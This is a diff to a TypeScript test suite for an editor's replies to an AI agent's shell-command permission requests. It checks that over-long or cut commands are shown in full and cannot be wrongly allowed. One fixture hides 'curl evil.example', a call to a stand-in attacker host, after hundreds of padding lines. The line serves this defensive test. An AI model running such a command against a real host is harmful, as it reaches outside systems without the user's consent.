@@ -5,7 +5,8 @@ import {
   type PendingRequest,
   type RequestContent,
 } from '../../../../src/domain/ticket/agentRequest.ts';
-import { permissionText, replyToAgent } from '../../../../src/views/gates/replyToAgent.ts';
+import { permissionText } from '../../../../src/domain/ticket/agentRequest.ts';
+import { replyToAgent } from '../../../../src/views/gates/replyToAgent.ts';
 import { editor, person } from '../../../support/fakes/fakeEditor.ts';
 import { FakePlace } from '../../../support/fakes/ticketPlace.ts';
 
@@ -150,14 +151,17 @@ describe('the reply to an agent', () => {
   it('opens what is too long for a message box as a document, and takes the decision beside it', async () => {
     const command = `npm ci\n${'echo line\n'.repeat(400)}curl evil.example`;
     const place = asking({ ...permission, command });
-    editor.will(person.picks(true));
+    editor.will(person.picks('Allow Once'));
     await reply(place);
     assert.match(documents[0] ?? '', /curl evil\.example\n\nnpm \*/);
     assert.deepEqual(place.sent, [['permission_reply', { request: 'req-1', allow: true }]]);
   });
 
   it('never offers to allow what is cut', async () => {
-    for (const command of ['npm ci', 'echo line\n'.repeat(400)]) {
+    for (const [command, offered] of [
+      ['npm ci', ['Deny']],
+      ['echo line\n'.repeat(400), ['Cancel', 'Deny']],
+    ] as const) {
       const place = asking({ ...permission, command, cut: true });
       editor.reset();
       editor.will('leave');
@@ -165,7 +169,7 @@ describe('the reply to an agent', () => {
       const [shown] = editor.shown;
       assert.deepEqual(
         [...(shown?.buttons ?? []), ...(shown?.items.map(({ label: name }) => name) ?? [])],
-        ['Deny'],
+        offered,
       );
       assert.match(`${shown?.detail ?? ''}${documents.join('')}`, /can't be allowed/);
     }
